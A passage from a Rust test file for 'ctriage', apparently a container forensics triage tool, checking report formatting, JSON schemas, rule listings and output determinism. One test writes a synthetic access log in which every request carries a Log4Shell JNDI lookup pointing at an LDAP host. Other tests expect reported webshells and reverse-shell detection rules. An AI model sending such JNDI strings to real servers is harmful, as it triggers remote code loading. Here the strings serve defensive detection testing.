            "-f",
            format,
            "-q",
            "--fail-on",
            "none",
        ]);
        assert_eq!(o.status.code(), Some(0), "{format}: {}", String::from_utf8_lossy(&o.stderr));
    }
}

/// Every other command's JSON: a closed pipe is never a failure (70) nor an error message
/// (the exit code is the command's own when the output fitted in the pipe before it closed).
#[test]
fn broken_pipe_is_no_failure_in_any_command() {
    let commands: &[&[&str]] = &[
        &["layers", "samples/dvwa/image.tar", "--files", "--tree", "-f", "json"],
        &["diff", "--image", "samples/dvwa/image.tar", "samples/dvwa/export.tar", "-f", "json"],
        &["plan", "samples/dvwa", "-f", "json"],
        &["rules", "list", "-f", "json"],
        &["logs", "samples/log4shell/container.log", "-f", "json"],
    ];
    for args in commands {
        let o = reader_closes_after_one_byte(args);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            o.status.code().is_some_and(|c| c < 4) && !err.contains("error"),
            "{args:?}: {:?} {err}",
            o.status
        );
    }
}

#[test]
fn terminal_report_colours_wraps_and_honours_no_color() {
    let colour = ctriage(&["scan", "samples/log4shell", "--color", "always", "-q"]).stdout;
    let colour = String::from_utf8(colour).unwrap();
    assert!(colour.contains("\u{1b}[1;31mCRITICAL\u{1b}[0m"), "severity in colour");
    let plain = ctriage(&["scan", "samples/log4shell", "-q"]).stdout;
    assert!(!plain.contains(&0x1b), "no colour when not a terminal");
    let no = Command::new(bin())
        .args(["scan", "samples/log4shell", "-q"])
        .current_dir(root())
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(!no.stdout.contains(&0x1b));
    let narrow = Command::new(bin())
        .args(["scan", "samples/log4shell", "-q"])
        .current_dir(root())
        .env("COLUMNS", "80")
        .output()
        .unwrap();
    let narrow = String::from_utf8(narrow.stdout).unwrap();
    let long: Vec<&str> = narrow.lines().filter(|l| l.chars().count() > 80 && l.contains(' ')).collect();
    assert!(long.iter().all(|l| !l.trim_start().contains(' ')), "wrapped at 80: {long:?}");
    // The proof shows the log line itself, escaped.
    assert!(
        narrow.contains("        | ") || String::from_utf8_lossy(&plain).contains("        | "),
        "log lines shown"
    );
    // --verbose: every log hit (the default shows the first 50).
    let dir = tempfile::tempdir().unwrap();
    // 240 records: more timeline events (one per record) than the terminal shows by default.
    let log: String = (0..240)
        .map(|i| format!("198.51.100.{} - - [27/Nov/2026:12:{:02}:{:02} +0000] \"GET /?x=${{jndi:ldap://198.51.100.9:1389/a{i}}} HTTP/1.1\" 404 1 \"-\" \"x\"\n", i % 200, i / 60, i % 60))
        .collect();
    let many = dir.path().join("access.log");
    std::fs::write(&many, log).unwrap();
    let short = String::from_utf8(ctriage(&["logs", many.to_str().unwrap(), "-q"]).stdout).unwrap();
    let all =
        String::from_utf8(ctriage(&["scan", many.to_str().unwrap(), "-q", "--verbose"]).stdout).unwrap();
    let brief = String::from_utf8(ctriage(&["scan", many.to_str().unwrap(), "-q"]).stdout).unwrap();
    let hits =
        |t: &str| t.lines().filter(|l| l.trim_start().starts_with("line: ") && l.contains("1389/a")).count();
    assert!(brief.contains("more (see JSON or --verbose)"), "{brief}");
    assert!(hits(&all) > hits(&brief) && hits(&all) >= 720, "{} vs {}", hits(&all), hits(&brief));
    assert!(!all.contains("more (see JSON or --verbose)"), "the whole timeline with --verbose");
    assert!(!short.is_empty());
    // The first screen is the verdict.
    let head: Vec<&str> = String::from_utf8_lossy(&plain)
        .lines()
        .take(6)
        .map(String::from)
        .collect::<Vec<_>>()
        .leak()
        .iter()
        .map(|s| s.as_str())
        .collect();
    assert!(head.iter().any(|l| l.contains("Verdict: log4shell-app: COMPROMISED")), "{head:?}");
}

/// The first screen at 100 columns (40 lines) holds what an analyst acts on: the verdict, the
/// way in, the attackers, the chain and the first actions; a log record held by two captures
/// and matched by three rules is one entry; long values are cut with `…` (JSON keeps them).
#[test]
fn terminal_report_first_screen_holds_the_verdict_chain_and_actions() {
    let out = Command::new(bin())
        .args(["scan", "samples/dvwa", "-q", "--color", "never"])
        .current_dir(root())
        .env("COLUMNS", "100")
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let screen: String = text.lines().take(40).collect::<Vec<_>>().join("\n");
    for want in [
        "Verdict: dvwa: COMPROMISED",
        "  way in: OS command injection",
        "  attacker: 203.0.113.66",
        "== Attack chain ==",
        "persistence          [2026-11-27T14:06:21Z] PHP webshell: /var/www/html/hackable/uploads/shell.php",
        "== What to do now",
        "  2. Freeze dvwa",
    ] {
        assert!(screen.contains(want), "{want:?} in the first screen:\n{screen}");
    }
    assert!(text.contains('…'), "long values are cut");
    // One entry per record: the JNDI request of line 7 (three rules, two captures) once.
    let logs = &text[text.find("== Logs").expect("logs section")..];
    let entries = logs.lines().filter(|l| l.contains("\"GET / HTTP/1.1\" 302 398")).count();
    assert_eq!(entries, 1, "{logs}");
    assert!(logs.contains("at: export.tar > var/log/apache2/access.log:7") && logs.contains("-json.log:21"));
    // --verbose keeps every hit.
    let all = String::from_utf8(ctriage(&["scan", "samples/dvwa", "-q", "--verbose"]).stdout).unwrap();
    let logs = &all[all.find("== Logs").unwrap()..];
    assert_eq!(logs.lines().filter(|l| l.contains("\"GET / HTTP/1.1\" 302 398")).count(), 6);
    let cuts = |t: &str| t.matches('…').count();
    assert!(cuts(&all) < cuts(&text), "--verbose cuts only what the report holds cut");
}

/// `scan`, `plan`, `logs`, `layers` and `diff` JSON open with the same envelope and validate against
/// docs/report-schema.json.
#[test]
fn every_command_json_carries_the_envelope_and_validates() {
    let runs: [&[&str]; 6] = [
        &["scan", "samples/dvwa"],
        &["plan", "samples/log4shell"],
        &["logs", "samples/log4shell/container.log"],
        &["layers", "samples/log4shell/image.tar"],
        &["layers", "samples/dvwa/image.tar", "--files", "--tree"],
        &["diff", "--image", "samples/dvwa/image.tar", "samples/dvwa/export.tar"],
    ];
    for args in runs {
        let mut all = args.to_vec();
        all.extend(["--format", "json", "-q"]);
        let out = ctriage(&all);
        let v: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}): {}", String::from_utf8_lossy(&out.stderr)));
        assert_eq!(v["schema_version"], "3.0", "{args:?}");
        assert_eq!(v["tool"]["name"], "ctriage");
        assert_eq!(v["run"]["time"], "2025-12-01T00:00:00.000000000Z", "{args:?}");
        assert_eq!(v["run"]["arguments"][0], args[0], "{args:?}");
        assert!(
            v["run"]["host"].is_string() && v["run"]["commit"].is_string() && v["run"]["options"].is_object()
        );
        assert_eq!(v["run"]["tool_version"], env!("CARGO_PKG_VERSION"));
        validate_against_schema(&v);
    }
}

/// `rules list --format json` covers every family, and every rule a scan of the samples and
/// of hostile evidence raises is in it.
#[test]
fn rules_list_covers_every_family_and_every_raised_rule() {
    let out = ctriage(&["rules", "list", "--format", "JSON"]);
    assert_eq!(out.status.code(), Some(0));
    let rules: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let families: std::collections::BTreeSet<&str> =
        rules.iter().map(|r| r["family"].as_str().unwrap()).collect();
    for f in ["log", "sigma", "file", "process", "exposure", "correlation", "stats"] {
        assert!(families.contains(f), "family {f} listed: {families:?}");
    }
    let ids: std::collections::BTreeSet<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), rules.len(), "ids are unique");
    for r in &rules {
        assert!(r["severity"].is_string() && r["title"].is_string() && r["category"].is_string(), "{r}");
    }
    let dir = tempfile::tempdir().unwrap();
    let hostile = hostile_bundle(dir.path(), 9);
    let mut raised = 0;
    for bundle in ["samples/dvwa", "samples/log4shell", hostile.to_str().unwrap()] {
        let v: Value =
            serde_json::from_slice(&ctriage(&["scan", bundle, "-f", "json", "-q"]).stdout).unwrap();
        for f in v["bundles"][0]["findings"].as_array().unwrap() {
            for rule in f["rules"].as_array().unwrap() {
                let rule = rule.as_str().unwrap();
                let id = rule.strip_prefix("log.").unwrap_or(rule);
                assert!(
                    ids.contains(id) || ids.contains(rule),
                    "{bundle}: rule {rule} is not in `rules list`"
                );
                raised += 1;
            }
        }
    }
    assert!(raised > 30, "{raised} rules raised");
    let text = String::from_utf8(ctriage(&["rules", "list"]).stdout).unwrap();
    assert!(
        text.contains("file.webshell.jsp")
            && text.contains("proc.revshell")
            && text.contains("stats.cpu-high")
    );
}

/// Same evidence, same bytes, in every format, whatever the thread count (both samples in
/// one batch).
#[test]
fn every_format_is_byte_identical_whatever_the_threads() {
    for (format, _) in FORMATS {
        let run = |j: &str| {
            ctriage(&[
                "-j",
                j,
                "scan",
                "samples/dvwa",
                "samples/log4shell",
                "-f",
                format,
                "-q",
                "--fail-on",
                "none",
            ])
            .stdout
        };
        let one = run("1");
        assert!(!one.is_empty(), "{format}");
        assert_eq!(one, run("2"), "{format}: bytes depend on the thread count");
    }
}
